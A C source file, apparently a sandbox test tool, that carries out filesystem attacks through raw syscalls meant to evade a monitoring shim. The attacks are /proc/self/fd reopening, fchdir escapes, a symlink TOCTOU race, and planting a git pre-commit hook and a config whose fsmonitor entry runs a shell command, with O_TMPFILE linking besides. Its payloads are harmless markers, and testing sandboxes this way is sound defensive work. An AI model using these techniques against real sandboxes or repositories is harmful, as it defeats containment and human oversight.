/*
 * atk_fs - multi-step filesystem attacks (THREATS FS-01/05/08/12), done
 * with raw system calls so the shim never sees them.
 *
 *   atk_fs reopen PATH MODE      open PATH (O_PATH, else O_RDONLY), then
 *                                reopen /proc/self/fd/N with MODE
 *                                (r | w | a), read or write through it
 *   atk_fs fchdir DIR REL        fchdir to an fd on DIR, open REL, read it
 *   atk_fs toctou FILE TARGET N  a thread swaps FILE between a regular file
 *                                and a symlink to TARGET while the main
 *                                thread appends to FILE N times
 *   atk_fs gitswap REPO          FS-05: mv .git g; mkdir -p .git/hooks;
 *                                move the rest back; write a pre-commit
 *                                hook and a config with core.hooksPath
 *   atk_fs tmpfile DIR NAME      O_TMPFILE in DIR, then link it to NAME
 *
 * Last line: RESULT <rc> <ERRNAME> like atk_syscall.
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef SYS_renameat2
#define SYS_renameat2 316
#endif

#if defined(__x86_64__)
static long rsys(long n, long a1, long a2, long a3, long a4, long a5)
{
	unsigned long ret;
	register long r10 __asm__("r10") = a4;
	register long r8 __asm__("r8") = a5;

	__asm__ volatile("syscall"
			 : "=a"(ret)
			 : "a"(n), "D"(a1), "S"(a2), "d"(a3), "r"(r10), "r"(r8)
			 : "rcx", "r11", "memory");
	return (long)ret;
}
#else
static long rsys(long n, long a1, long a2, long a3, long a4, long a5)
{
	long r = syscall(n, a1, a2, a3, a4, a5);
	return r < 0 ? -errno : r;
}
#endif
#define S(n, a, b, c, d, e) \
	rsys((n), (long)(a), (long)(b), (long)(c), (long)(d), (long)(e))

static const char payload[] = "sbx-attack-payload\n";

static int result(long r)
{
	if (r < 0 && r > -4096) {
		const char *n = strerrorname_np((int)-r);
		printf("RESULT -1 %s\n", n ? n : "E?");
		return 1;
	}
	printf("RESULT %ld OK\n", r);
	return 0;
}

static long xopen(const char *p, int fl, int mode)
{
	return S(SYS_openat, AT_FDCWD, p, fl, mode, 0);
}

static long dump(long fd)
{
	char buf[4096];
	long n, t = 0;

	while ((n = S(SYS_read, fd, buf, sizeof(buf), 0, 0)) > 0) {
		fwrite(buf, 1, (size_t)n, stdout);
		t += n;
	}
	fflush(stdout);
	return n < 0 ? n : t;
}

static long op_reopen(const char *path, const char *mode)
{
	char p[64];
	long fd, fd2;
	int fl = mode[0] == 'r'	  ? O_RDONLY
		 : mode[0] == 'a' ? O_WRONLY | O_APPEND
				  : O_RDWR;

	fd = xopen(path, O_PATH, 0);
	if (fd < 0)
		fd = xopen(path, O_RDONLY, 0);
	if (fd < 0)
		return fd;
	printf("FIRST-OPEN fd %ld\n", fd);
	snprintf(p, sizeof(p), "/proc/self/fd/%ld", fd);
	fd2 = xopen(p, fl, 0);
	if (fd2 < 0)
		return fd2;
	if (fl == O_RDONLY)
		return dump(fd2);
	return S(SYS_write, fd2, payload, sizeof(payload) - 1, 0, 0);
}

static long op_fchdir(const char *dir, const char *rel)
{
	long d = xopen(dir, O_RDONLY | O_DIRECTORY, 0), fd;

	if (d < 0)
		return d;
	if ((fd = S(SYS_fchdir, d, 0, 0, 0, 0)) < 0)
		return fd;
	fd = xopen(rel, O_RDONLY, 0);
	if (fd < 0)
		return fd;
	return dump(fd);
}

static const char *t_file, *t_target;
static volatile int t_stop;

static void *swapper(void *arg)
{
	char lnk[4096], reg[4096];

	snprintf(lnk, sizeof(lnk), "%s.lnk", t_file);
	snprintf(reg, sizeof(reg), "%s.reg", t_file);
	while (!t_stop) {
		long fd;

		S(SYS_unlinkat, AT_FDCWD, lnk, 0, 0, 0);
		S(SYS_symlinkat, t_target, AT_FDCWD, lnk, 0, 0);
		S(SYS_renameat2, AT_FDCWD, lnk, AT_FDCWD, t_file, 0);
		fd = xopen(reg, O_WRONLY | O_CREAT | O_TRUNC, 0644);
		if (fd >= 0)
			S(SYS_close, fd, 0, 0, 0, 0);
		S(SYS_renameat2, AT_FDCWD, reg, AT_FDCWD, t_file, 0);
	}
	return NULL;
}

static long op_toctou(const char *file, const char *target, long n)
{
	pthread_t th;
	long ok = 0, through = 0;

	t_file = file;
	t_target = target;
	pthread_create(&th, NULL, swapper, NULL);
	for (long i = 0; i < n; i++) {
		long fd = xopen(file, O_WRONLY | O_APPEND, 0);

		if (fd < 0)
			continue;
		if (S(SYS_write, fd, payload, sizeof(payload) - 1, 0, 0) > 0)
			ok++;
		S(SYS_close, fd, 0, 0, 0, 0);
	}
	t_stop = 1;
	pthread_join(th, NULL);
	/* did any write land in the target? (read it if we can) */
	{
		long fd = xopen(target, O_RDONLY, 0);
		char buf[65536];
		long r = fd >= 0 ? S(SYS_read, fd, buf, sizeof(buf) - 1, 0, 0)
				 : 0;

		if (r > 0) {
			buf[r] = 0;
			through = strstr(buf, "sbx-attack-payload") != NULL;
		}
	}
	printf("WRITES %ld THROUGH %ld\n", ok, through);
	return through ? 1 : 0;
}

static void step(const char *what, long r)
{
	const char *n = r < 0 ? strerrorname_np((int)-r) : "OK";
	printf("STEP %s: %s\n", what, n ? n : "E?");
}

static long op_gitswap(const char *repo)
{
	static const char *const items[] = {
		"objects", "refs",  "HEAD",	   "description", "info",
		"logs",	   "index", "packed-refs", NULL
	};
	static const char cfg[] =
		"[core]\n\trepositoryformatversion = 0\n"
		"\thooksPath = .git/evilhooks\n\tfsmonitor = touch /tmp/sbx-fsmon\n";
	static const char hook[] = "#!/bin/sh\necho sbx-attack-hook-ran\n";
	char a[4096], b[4096];
	long r, fd, last = 0;

	r = S(SYS_chdir, repo, 0, 0, 0, 0);
	if (r < 0)
		return r;
	r = S(SYS_renameat2, AT_FDCWD, ".git", AT_FDCWD, "g", 0);
	step("rename .git g", r);
	if (r < 0) {
		/* plan B: replace hooks/ or config inside .git directly */
		r = S(SYS_renameat2, AT_FDCWD, ".git/hooks", AT_FDCWD,
		      ".git/oldhooks", 0);
		step("rename .git/hooks", r);
		r = S(SYS_mkdirat, AT_FDCWD, ".git/hooks2", 0755, 0, 0);
		step("mkdir .git/hooks2", r);
		fd = xopen(".git/hooks2/pre-commit",
			   O_WRONLY | O_CREAT | O_TRUNC, 0755);
		if (fd >= 0) {
			S(SYS_write, fd, hook, sizeof(hook) - 1, 0, 0);
			S(SYS_close, fd, 0, 0, 0, 0);
		}
		r = S(SYS_renameat2, AT_FDCWD, ".git/hooks2", AT_FDCWD,
		      ".git/hooks", 2 /* RENAME_EXCHANGE */);
		step("exchange hooks2 hooks", r);
		r = S(SYS_renameat2, AT_FDCWD, ".git/config", AT_FDCWD,
		      ".git/config.old", 0);
		step("rename .git/config", r);
		fd = xopen(".git/config.new", O_WRONLY | O_CREAT | O_TRUNC,
			   0644);
		if (fd >= 0) {
			S(SYS_write, fd, cfg, sizeof(cfg) - 1, 0, 0);
			S(SYS_close, fd, 0, 0, 0, 0);
		}
		r = S(SYS_renameat2, AT_FDCWD, ".git/config.new", AT_FDCWD,
		      ".git/config", 2 /* RENAME_EXCHANGE */);
		step("exchange config", r);
		r = S(SYS_unlinkat, AT_FDCWD, ".git/config", 0, 0, 0);
		step("unlink .git/config", r);
		return -EPERM;
	}
	last = S(SYS_mkdirat, AT_FDCWD, ".git", 0755, 0, 0);
	step("mkdir .git", last);
	last = S(SYS_mkdirat, AT_FDCWD, ".git/hooks", 0755, 0, 0);
	step("mkdir .git/hooks", last);
	for (int i = 0; items[i]; i++) {
		snprintf(a, sizeof(a), "g/%s", items[i]);
		snprintf(b, sizeof(b), ".git/%s", items[i]);
		S(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 0);
	}
	fd = xopen(".git/config", O_WRONLY | O_CREAT | O_TRUNC, 0644);
	step("write .git/config", fd);
	if (fd >= 0) {
		S(SYS_write, fd, cfg, sizeof(cfg) - 1, 0, 0);
		S(SYS_close, fd, 0, 0, 0, 0);
	}
	fd = xopen(".git/hooks/pre-commit", O_WRONLY | O_CREAT | O_TRUNC, 0755);
	step("write .git/hooks/pre-commit", fd);
	if (fd < 0)
		return fd;
	S(SYS_write, fd, hook, sizeof(hook) - 1, 0, 0);
	S(SYS_close, fd, 0, 0, 0, 0);
	return 0;
}

static long op_tmpfile(const char *dir, const char *name)
{
	char p[64];
	long fd = xopen(dir, O_TMPFILE | O_RDWR, 0755);

	if (fd < 0)
		return fd;
	S(SYS_write, fd, payload, sizeof(payload) - 1, 0, 0);
	snprintf(p, sizeof(p), "/proc/self/fd/%ld", fd);
	return S(SYS_linkat, AT_FDCWD, p, AT_FDCWD, name, AT_SYMLINK_FOLLOW);
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2) {
		fprintf(stderr,
			"usage: atk_fs reopen|fchdir|toctou|gitswap|tmpfile ...\n");
		return 2;
	}
	if (!strcmp(argv[1], "reopen") && argc >= 4)
		return result(op_reopen(argv[2], argv[3]));
	if (!strcmp(argv[1], "fchdir") && argc >= 4)
		return result(op_fchdir(argv[2], argv[3]));
	if (!strcmp(argv[1], "toctou") && argc >= 5)
		return result(op_toctou(argv[2], argv[3], atol(argv[4])));
	if (!strcmp(argv[1], "gitswap") && argc >= 3)
		return result(op_gitswap(argv[2]));
	if (!strcmp(argv[1], "tmpfile") && argc >= 4)
		return result(op_tmpfile(argv[2], argv[3]));
	fprintf(stderr, "atk_fs: bad arguments\n");
	return 2;
}
